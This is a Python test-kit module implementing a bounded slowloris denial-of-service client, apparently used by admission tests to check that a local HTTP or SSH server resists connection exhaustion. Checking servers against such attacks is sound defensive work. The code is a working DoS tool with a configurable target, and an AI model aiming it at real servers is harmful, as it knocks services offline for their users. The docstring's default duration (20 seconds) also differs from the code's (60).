"""A slowloris from one source address, run as its own process by the admission tests.

    python -m testkit.slowloris --port N --source 127.0.0.2 --mode http|ssh [--sockets 200]
                              [--seconds 20] [--max-connects 300000]

``http``: every socket sends a request line, then one more header line a second, and never
the blank line that ends the headers. ``ssh``: every socket sends nothing, not even the
version banner. A socket the server closes is reopened at once, as the attacker of issue 12
did. It stops when its stdin closes, and is bounded in time (``--seconds``) and in connects
(``--max-connects``). Prints ``started`` once its sockets are opening, and one JSON line of
counts when it ends: connects, closed (by the server), most_held (the
most sockets open at once for at least a second, i.e. admitted), and whether a bound hit.
"""

from __future__ import annotations

import argparse
import errno
import json
import selectors
import socket
import sys
import time
from dataclasses import dataclass


@dataclass
class _Conn:
    sock: socket.socket
    opened: float
    connected: bool = False
    lines: int = 0


class Slowloris:
    def __init__(self, host: str, port: int, source: str, mode: str) -> None:
        self.target = (host, port)
        self.source = source
        self.mode = mode
        self.sel = selectors.DefaultSelector()
        self.conns: dict[int, _Conn] = {}
        self.connects = 0
        self.closed = 0
        self.most_held = 0

    def open(self, now: float) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((self.source, 0))
        err = sock.connect_ex(self.target)
        if err not in (0, errno.EINPROGRESS):
            sock.close()
            self.closed += 1
            return
        self.connects += 1
        self.conns[sock.fileno()] = _Conn(sock, now)
        self.sel.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def drop(self, conn: _Conn, now: float) -> None:
        self.sel.unregister(conn.sock)
        del self.conns[conn.sock.fileno()]
        conn.sock.close()
        self.closed += 1
        self.open(now)

    def send_line(self, conn: _Conn, now: float) -> None:
        line = b"POST /ops/auth/challenge HTTP/1.1\r\nHost: x\r\n" if conn.lines == 0 else b"X-a: b\r\n"
        try:
            conn.sock.send(line)
            conn.lines += 1
        except OSError:
            self.drop(conn, now)

    def ready(self, fd: int, events: int, now: float) -> None:
        conn = self.conns.get(fd)
        if conn is None:
            return
        if events & selectors.EVENT_WRITE and not conn.connected:
            conn.connected = True
            self.sel.modify(conn.sock, selectors.EVENT_READ)
            if self.mode == "http":
                self.send_line(conn, now)
            return
        try:
            data = conn.sock.recv(4096)  # the SSH server's banner, or a close
        except OSError:
            data = b""
        if not data:
            self.drop(conn, now)

    def tick(self, now: float) -> None:
        # once a second: count the sockets the server let stay, and feed them a header line
        held = [c for c in list(self.conns.values()) if c.connected and now - c.opened >= 1.0]
        self.most_held = max(self.most_held, len(held))
        if self.mode == "http":
            for conn in held:
                if conn.sock.fileno() in self.conns:
                    self.send_line(conn, now)

    def run(self, sockets: int, seconds: float, max_connects: int) -> dict[str, object]:
        start = time.monotonic()
        deadline = start + seconds
        for _ in range(sockets):
            self.open(start)
        next_tick = start + 1.0
        self.sel.register(sys.stdin, selectors.EVENT_READ)  # closed: the test is done
        stop = False
        while not stop and (now := time.monotonic()) < deadline and self.connects < max_connects:
            for key, events in self.sel.select(timeout=min(0.2, max(0.0, next_tick - now))):
                if key.fileobj is sys.stdin:
                    stop = not sys.stdin.buffer.read1(4096)
                else:
                    self.ready(key.fd, events, now)
            if now >= next_tick:
                next_tick = now + 1.0
                self.tick(now)
        for conn in list(self.conns.values()):
            conn.sock.close()
        return {
            "connects": self.connects,
            "closed": self.closed,
            "most_held": self.most_held,
            "seconds": round(time.monotonic() - start, 1),
            "bounded": not stop,
        }


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m testkit.slowloris")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--mode", choices=("http", "ssh"), required=True)
    parser.add_argument("--sockets", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--max-connects", type=int, default=300_000)
    args = parser.parse_args(argv)
    attack = Slowloris(args.host, args.port, args.source, args.mode)
    print("started", flush=True)
    print(json.dumps(attack.run(args.sockets, args.seconds, args.max_connects)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
